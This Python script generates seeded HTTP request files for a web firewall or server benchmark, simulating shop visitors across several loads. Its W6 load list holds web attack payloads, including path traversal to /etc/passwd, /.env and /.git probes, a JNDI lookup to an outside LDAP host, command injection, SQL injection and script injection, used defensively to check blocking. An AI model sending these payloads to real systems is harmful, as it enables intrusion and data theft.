#!/usr/bin/python3
"""Writes the loads of the benchmark, W1 to W6 and W2X, as request files for tools/load.

    mkreq.py DIR        one seed, so the same bytes every time

200 clients visit a shop. Each has the user agent, the order of fields, the languages
and the cookies of one browser and keeps them; what it asks for differs from visit to
visit, popular pages more often than others. So values repeat as they do in front of a
real site: fields of a client always, paths often, arguments and bodies hardly ever.
"""
import json
import random
import sys
import urllib.parse as url

CLIENTS = 200
HOST = "shop.example.com"
R = random.Random(20260724)

# name: (requests, what it is)
LOADS = {
    "W1": (8000, "small GET"),
    "W2": (8000, "GET, 300 B of query in 6 arguments, 400 B of cookies"),
    "W2X": (8000, "the same, but no value ever comes twice: nothing to remember"),
    "W3": (8000, "form POST of 1 KB"),
    "W4": (1500, "JSON POST of 8 KB"),
    "W5": (1000, "multipart upload of 100 KB"),
    "W6": (1000, "attack; a firewall must answer 403"),
}

WORDS = """the quick small garden chair with oak legs arrived on monday and looks good in our living room we would buy it
again from this shop because delivery was fast and the colour matches the picture thanks for friendly support team table
blue cushion green lamp kettle iron fire bell door mat wood birch shelf linen curtain summer winter sale gift""".split()
FIRST = "Maria Anna Lena Ida Olu Wei Fatima Jonas Erik Tom Ravi Ines Pedro Yuki Sam Nora".split()
LAST = "Lindgren Okafor Chen Novak Müller Garcia O'Brien Sato Singh Dubois Rossi Jensen Kowalski Silva".split()
TOWNS = [("Uppsala", "75331", "SE"), ("Leipzig", "04109", "DE"), ("Lyon", "69001", "FR"), ("Cork", "T12", "IE"),
         ("Porto", "4000-322", "PT"), ("Graz", "8010", "AT"), ("Gent", "9000", "BE"), ("Turin", "10121", "IT")]
LANGUAGES = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "sv-SE,sv;q=0.9,en-US;q=0.8,en;q=0.7",
             "fr-FR,fr;q=0.9,en;q=0.7", "pt-PT,pt;q=0.8,en;q=0.5,en-US;q=0.3", "it-IT,it;q=0.9", "nl-BE,nl;q=0.9,fr;q=0.8",
             "ja,en-US;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9,en-US;q=0.8"]
HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
CHROME_HTML = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
               "application/signed-exchange;v=b3;q=0.7")


def hexes(n):
    return "".join(R.choices("0123456789abcdef", k=n))


def text(n):
    s = ""
    while len(s) < n:
        s += R.choice(WORDS) + " "
    return s[:n].strip()


# ---- clients: each function gives the fields of one browser, in its order ----

def chrome():
    version = R.randrange(118, 127)
    system, platform, mobile = R.choice([
        ("Windows NT 10.0; Win64; x64", "Windows", "?0"), ("Macintosh; Intel Mac OS X 10_15_7", "macOS", "?0"),
        ("X11; Linux x86_64", "Linux", "?0"), ("Linux; Android 10; K", "Android", "?1")])
    agent = f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 "
    agent += "Mobile Safari/537.36" if mobile == "?1" else "Safari/537.36"
    return [("sec-ch-ua", f'"Chromium";v="{version}", "Not-A.Brand";v="24", "Google Chrome";v="{version}"'),
            ("sec-ch-ua-mobile", mobile), ("sec-ch-ua-platform", f'"{platform}"'), ("Upgrade-Insecure-Requests", "1"),
            ("User-Agent", agent), ("Accept", CHROME_HTML), ("Sec-Fetch-Site", "same-origin"),
            ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"), ("Sec-Fetch-Dest", "document"),
            ("Accept-Encoding", "gzip, deflate, br"), ("Accept-Language", R.choice(LANGUAGES))]


def firefox():
    version = R.randrange(115, 128)
    system = R.choice(["Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 10.15"])
    return [("User-Agent", f"Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"), ("Accept", HTML),
            ("Accept-Language", R.choice(LANGUAGES)), ("Accept-Encoding", "gzip, deflate, br"),
            ("Upgrade-Insecure-Requests", "1"), ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Site", "same-origin"), ("Priority", "u=1")]


def safari():
    major = R.randrange(15, 18)
    device = R.choice([f"iPhone; CPU iPhone OS {major}_{R.randrange(6)} like Mac OS X", "Macintosh; Intel Mac OS X 10_15_7"])
    return [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Sec-Fetch-Site", "same-origin"),
            ("Accept-Encoding", "gzip, deflate, br"), ("Sec-Fetch-Mode", "navigate"),
            ("User-Agent", f"Mozilla/5.0 ({device}) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                           f"Version/{major}.{R.randrange(6)} {'Mobile/15E148 ' if 'iPhone' in device else ''}Safari/604.1"),
            ("Accept-Language", R.choice(LANGUAGES)), ("Sec-Fetch-Dest", "document")]


def app():
    return [("Accept", "*/*"), ("Accept-Encoding", "gzip"), ("User-Agent", f"shop-app/{R.randrange(3, 6)}.{R.randrange(10)} okhttp/4.12.0")]


class Client:
    def __init__(self):
        self.fields = R.choices([chrome, firefox, safari, app], weights=[60, 15, 20, 5])[0]()
        self.name = (R.choice(FIRST), R.choice(LAST))
        self.town = R.choice(TOWNS)
        self.street = f"{R.choice(WORDS).title()} street {R.randrange(1, 200)}"
        self.phone = f"+{R.randrange(10**10, 10**11)}"
        self.cookies = (f"sessionid={hexes(64)}; _ga=GA1.2.{R.randrange(10**9)}.{R.randrange(10**9)}; theme=dark; "
                        f"cart={hexes(48)}; consent=necessary%2Cstatistics; csrftoken={hexes(64)}; lang=en; ab={hexes(24)}")
        self.token = hexes(64)

    def request(self, method, target, extra=(), body=b""):
        fields = [("Host", HOST)] + self.fields + list(extra)
        if method == "POST":
            fields.append(("Content-Length", str(len(body))))
        head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in fields) + "\r\n"
        return head.encode() + body

    def session(self):
        """Cookies as they are at this visit: one of them changes."""
        seen = f"; last_seen=2026-07-{R.randrange(1, 29):02}T{R.randrange(24):02}%3A{R.randrange(60):02}%3A00Z"
        return [("Referer", f"https://{HOST}{R.choice(PAGES)}"), ("Cookie", self.cookies + seen)]


PAGES = ["/"] + [f"/garden/{R.choice(WORDS)}/{R.choice(WORDS)}-{R.choice(WORDS)}-{n}" for n in range(600)]
POPULAR = [1 / (rank + 1) for rank in range(len(PAGES))]


def page():
    return R.choices(PAGES, weights=POPULAR)[0]


# ---- loads ----

def w1(c):
    return c.request("GET", page())


def w2(c):
    query = url.urlencode([("category", R.choice(["garden-furniture", "kitchen", "lamps", "textiles"])),
                           ("q", text(R.randrange(20, 45))), ("sort", R.choice(["price_asc", "price_desc", "newest"])),
                           ("page", R.randrange(1, 20)), ("utm_source", f"newsletter-2026-{R.randrange(1, 13):02}-campaign"),
                           ("return_to", f"{page()}?view=compact&lang=en")])
    query += "&hint=" + hexes(max(0, 300 - len(query) - 6))
    return c.request("GET", "/search?" + query, c.session())


def w2x(c):
    stranger = Client()
    stranger.fields = [(k, f"{v} {hexes(8)}") for k, v in stranger.fields]
    return w2(stranger)


def w3(c):
    form = [("csrfmiddlewaretoken", c.token), ("first_name", c.name[0]), ("last_name", c.name[1]), ("street", c.street),
            ("city", c.town[0]), ("postcode", c.town[1]), ("country", c.town[2]), ("phone", c.phone), ("newsletter", "1"),
            ("delivery", R.choice(["standard", "express"]))]
    form.append(("comment", text(1024 - len(url.urlencode(form)) - 9)))
    return c.request("POST", "/checkout/address", c.session() + [("Content-Type", "application/x-www-form-urlencoded")],
                     url.urlencode(form).encode())


def w4(c):
    items = []
    order = {"order_id": R.randrange(10**6), "customer": {"name": " ".join(c.name), "address": {"street": c.street, "city": c.town[0]}},
             "currency": "EUR", "items": items, "note": text(120)}
    while len(json.dumps(order)) < 8000:
        items.append({"sku": "GF-" + hexes(8).upper(), "name": text(24), "qty": R.randrange(1, 9),
                      "price": round(R.random() * 300, 2), "tags": [R.choice(WORDS), R.choice(WORDS)], "gift": False})
    return c.request("POST", "/api/v1/orders", c.session() + [("Content-Type", "application/json")], json.dumps(order).encode())


NOISE = R.randbytes(1 << 20)


def w5(c):
    boundary = "----WebKitFormBoundary" + hexes(16)
    start = R.randrange(len(NOISE) - 100 * 1024)
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n{text(20)}\r\n--{boundary}\r\n'
            f'Content-Disposition: form-data; name="album"\r\n\r\nsummer {R.randrange(2000, 2026)}\r\n--{boundary}\r\n'
            f'Content-Disposition: form-data; name="file"; filename="{R.choice(WORDS)}.jpg"\r\nContent-Type: image/jpeg\r\n\r\n').encode()
    body += NOISE[start:start + 100 * 1024] + f"\r\n--{boundary}--\r\n".encode()
    return c.request("POST", "/account/photos", c.session() + [("Content-Type", "multipart/form-data; boundary=" + boundary)], body)


ATTACKS = ["/product?file=../../../../etc/passwd", "/.git/config", "/.env", "/search?q=" + url.quote("${jndi:ldap://203.0.113.9/a}"),
           "/search?q=" + url.quote(";cat /etc/passwd"), "/index.php?page=php://filter/convert.base64-encode/resource=index",
           "/product?id=" + url.quote("1' UNION SELECT username,password FROM users-- -"),
           "/search?q=" + url.quote("<script>alert(document.cookie)</script>")]


def w6(c):
    attack = R.choice(ATTACKS)
    return c.request("GET", attack + ("&" if "?" in attack else "?") + f"n={R.randrange(10**6)}")


def visits(clients, count, make):
    """Clients come back, some more often, and stay for one to eight requests."""
    often = [1 / (rank + 10) for rank in range(len(clients))]
    while count > 0:
        client = R.choices(clients, weights=often)[0]
        for _ in range(min(count, R.randrange(1, 9))):
            yield make(client)
            count -= 1


def main():
    clients = [Client() for _ in range(CLIENTS)]
    for name, (count, what) in LOADS.items():
        seen, size = set(), 0
        with open(f"{sys.argv[1]}/{name}.req", "wb") as f:
            for r in visits(clients, count, globals()[name.lower()]):
                f.write(b"REQ %d\n%s\n" % (len(r), r))
                seen.add(hash(r))
                size += len(r)
        if len(seen) < 1000 and name != "W6":
            sys.exit(f"{name}: only {len(seen)} distinct requests")
        print(json.dumps({"load": name, "what": what, "requests": count, "distinct": len(seen), "bytes": size // count}))


if __name__ == "__main__":
    main()
